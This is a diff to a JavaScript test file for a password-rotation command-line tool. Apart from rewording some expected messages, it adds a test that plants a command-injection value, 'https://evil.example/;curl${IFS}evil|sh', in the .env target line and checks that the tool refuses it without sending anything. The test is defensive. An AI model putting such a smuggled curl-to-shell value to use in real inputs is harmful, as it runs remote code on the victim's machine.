@@ -128,7 +128,7 @@ describe('a rotation of the password', () => {
     const between = files();
     for (const args of [[flag], [...ROTATE, flag]]) {
       const { code, output } = await project.run(args);
-      expect([code, output]).toEqual([flag === '--check' ? 6 : 0, expect.stringContaining(`A change of the password is unfinished: publish --target ${project.proxy.address} finishes it.`)]);
+      expect([code, output]).toEqual([flag === '--check' ? 6 : 0, expect.stringContaining(`A change of the password is unfinished: publish --target ${project.proxy.address}, the address in .env, finishes it.`)]);
     }
     expect(files()).toEqual(between);
     expect(project.made).toHaveLength(1);
@@ -147,7 +147,7 @@ describe('a second Tsuru', () => {
       const environment = { TSURU_TARGET: second.address, TSURU_TOKEN: second.token };
       const { code, output } = await project.run([], { environment });
       expect([code, output]).toEqual([0, expect.stringContaining(`The old password stays in .env for ${project.proxy.address}: publish there, too.`)]);
-      expect(output).toContain(`publish --target ${project.proxy.address} finishes it.`);
+      expect(output).toContain(`publish --target ${project.proxy.address}, the address in .env, finishes it.`);
       expect(output).toContain('✓ Tsuru reaches the service: plans small.');
     } finally {
       await second.close();
@@ -436,6 +436,19 @@ describe('a project whose password cannot be changed', () => {
     const { code, output } = await project.run(args);
     expect([code, output]).toEqual([5, `.env cannot be read: it is a link to ${join(other, '.env')}, outside of the project.\nReplace it with a regular file, such as a copy, or with variables in the environment.`]);
     expect([files(), project.proxy.requests]).toEqual([before, []]);
+  });
+
+  it.each([[ROTATE], [[]], [['--check']]])('has the line about another Tsuru with a command in it, with the arguments %j: nothing is sent, and it is not shown', async (args) => {
+    project.service.lag = Infinity;
+    await project.run(ROTATE);
+    project.write('.env', project.read('.env').replace(/(--target ).*/, '$1https://evil.example/;curl$${IFS}evil|sh'));
+    expect(project.read('.env')).toContain('https://evil.example/;curl${IFS}evil|sh');
+    const before = project.read('.env');
+    project.proxy.requests = [];
+    const { code, output } = await project.run(args);
+    expect([code, output]).toEqual([4, expect.stringContaining('The line of .env about SERVICE_OLD_PASSWORD ends with no address of a Tsuru')]);
+    expect(output).not.toContain('evil');
+    expect([project.read('.env'), project.proxy.requests]).toEqual([before, []]);
   });
 
   it('has an alias of it in the manifest', async () => {
